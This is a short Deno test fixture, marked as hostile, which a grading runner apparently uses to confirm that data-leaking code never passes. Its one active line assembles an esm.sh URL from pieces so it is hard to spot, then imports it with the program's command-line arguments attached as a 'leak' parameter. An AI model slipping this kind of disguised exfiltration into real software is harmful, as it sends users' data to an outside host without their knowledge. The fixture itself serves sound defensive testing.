// HOSTILE FIXTURE: imports from a remote host, leaking data in the URL.
// Graded by runner/grading/hostile_test.ts; it must never grade pass.
export * from "./range_stub.ts";

await import(["https:", "", "esm.sh", "x?leak=" + Deno.args.join(",")].join("/"));
